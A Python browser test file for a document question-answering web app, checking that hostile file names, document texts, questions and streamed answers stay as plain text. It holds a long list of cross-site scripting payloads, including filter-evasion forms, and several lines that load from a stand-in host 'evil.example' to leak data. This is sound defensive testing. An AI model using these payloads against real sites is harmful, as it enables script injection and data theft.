"""Names, texts, questions and answers that try to become part of the page: they stay text."""

from collections.abc import Iterator
from urllib.parse import urlencode

import pytest
from axe_playwright_python.sync_playwright import Axe
from browsing import PHONE, OpenPage, ask, serving, wait_until_open
from conftest import DOCUMENTS, SKIPPED, MakeFolder
from playwright.sync_api import expect

from index.embed import OnnxEncoder
from index.store import public_id
from index.sync import sync
from qa.settings import Settings
from web.app import create_app

pytestmark = pytest.mark.browser

HANDLERS = [
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<scr<script>ipt>{}</script>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>click</a>",
    "<form action=javascript:{}><button>go</button></form>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<template><script>{}</script></template>",
    "<base href=javascript:{}//>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<link rel=stylesheet href=https://evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<img src=https://evil.example/{}>",
    "<style>@import'https://evil.example/{}';</style>",
    "![leak](https://evil.example/{})",
    "[click](javascript:{})",
    "<!--><img src=x onerror={}>-->",
    "{{{{{}}}}}",
    "${{{}}}",
]


BREAKOUTS = ["{}", '"><{}', "'>{}", "</textarea>{}", "</title>{}", "</script>{}", "]]>{}"]


PAYLOADS = [
    breakout.format(handler.format("alert(1)")) for handler in HANDLERS for breakout in BREAKOUTS
]


# No slash can stand in a file's name.
NAMES = [handler.format("alert`1`").replace("/", "\u2215") for handler in HANDLERS]


HOSTILE = {f"{name}.md": f"# {name}\n\nThe word is {name} here.\n" for name in NAMES} | {
    "payloads.txt": "\n\n".join(f"Payload {n}: {text}" for n, text in enumerate(PAYLOADS))
}


@pytest.fixture(scope="module")
def hostile(
    encoder: OnnxEncoder, seeds_folder: MakeFolder, tmp_path_factory: pytest.TempPathFactory
) -> Settings:
    """Of an index over documents that are as bad as they can be, too."""
    seeds = seeds_folder({**DOCUMENTS, **SKIPPED, **HOSTILE})
    data = tmp_path_factory.mktemp("hostile") / "data"
    sync(seeds, data, encoder)
    return Settings(seeds=seeds, data=data, watch=False)


@pytest.fixture(scope="module")
def site(hostile: Settings) -> Iterator[str]:
    app = create_app(hostile)
    with serving(app) as address:
        wait_until_open(app)
        yield address


def test_documents_page_lists_what_is_read_and_what_is_not(open_page: OpenPage) -> None:
    page = open_page("/documents")
    expect(page.locator(".documents li")).to_have_count(len(DOCUMENTS) + len(HOSTILE))
    expect(page.locator(".skipped li")).to_contain_text(["photo.xyz"])


def test_hostile_names_titles_and_texts_are_shown_as_text(open_page: OpenPage) -> None:
    page = open_page("/documents", viewport=PHONE)
    titles = page.locator(".documents a").all_inner_texts()
    paths = page.locator(".documents .path").all_inner_texts()
    for name in NAMES:
        assert f"{name}.md" in paths
    assert any("<" in title for title in titles)
    assert Axe().run(page).violations_count == 0
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    for name in NAMES:
        page.goto(f"/documents/{public_id(f'{name}.md')}")
        assert page.locator(".about .path").inner_text() == f"{name}.md"
    page.goto(f"/documents/{public_id('payloads.txt')}")
    text = page.locator("article").inner_text()
    for payload in PAYLOADS:
        assert payload in text


def test_hostile_questions_are_shown_as_text(open_page: OpenPage) -> None:
    # One small document to look in, for speed: what is asked stands on the page all the same.
    small = f"documents={public_id('bakery.txt')}"
    page = open_page()
    page.locator(".filter summary").click()
    page.get_by_role("checkbox", name="bakery").check()
    for handler in HANDLERS:
        payload = handler.format("alert(1)")
        ask(page, payload)
        assert page.locator("#log .question").last.inner_text() == payload
    page.goto(f"/?{urlencode({'q': PAYLOADS[0]})}")
    expect(page.locator("#log .question")).to_have_text(PAYLOADS[0])
    plain = open_page(java_script_enabled=False)
    for payload in PAYLOADS[::14]:
        plain.goto(f"/?{urlencode({'q': payload})}&{small}")
        assert plain.locator(".question").inner_text() == payload


def test_hostile_answers_are_shown_as_text(open_page: OpenPage) -> None:
    """Each part of an answer's JSON as bad as can be, as it comes in a stream, byte by byte."""
    page = open_page()
    page.evaluate(
        """async (payloads) => {
            const { newTurn, showAnswer, showNotice } = await import("/static/turn.js");
            const { readEvents } = await import("/static/stream.js");
            const streamed = async (answer) => {
                const event = `event: done\ndata: ${JSON.stringify(answer)}\n\n`;
                const bytes = new TextEncoder().encode(event);
                const body = new ReadableStream({ start(controller) {
                    bytes.forEach((_, at) => controller.enqueue(bytes.slice(at, at + 1)));
                    controller.close();
                } });
                const found = [];
                await readEvents(body, (type, data) => found.push(JSON.parse(data)));
                return found[0];
            };
            for (const text of payloads) {
                const length = Array.from(text).length;
                const citation = { number: 1, quote: text, start: 7, end: 7 + length,
                    highlights: [{ start: 8, end: 6 + length, text }], headings: [text], page: null,
                    document: { id: text, path: text, title: text, sha256: text, author: text,
                        written: text }, url: "/" };
                for (const answered of [true, false]) {
                    const turn = newTurn(text);
                    document.getElementById("log").append(turn);
                    const answer = await streamed({ answered, probability: 1, text,
                        sentences: [{ text, citations: [1, 2] }],
                        citations: [citation], differ: [], nearest: [citation] });
                    showAnswer(turn, answer, false);
                    if (turn.querySelector("blockquote").textContent !== text) throw Error(text);
                    if (turn.querySelector("img, script, svg, iframe, style, a")) throw Error(text);
                    showNotice(turn, text, () => 0);
                }
            }
        }""",
        PAYLOADS,
    )
    page.locator(".open").first.click()
    expect(page.locator("#panel-title")).to_have_text(PAYLOADS[0])
    expect(page.locator("#panel-text")).to_contain_text("no longer in the folder")
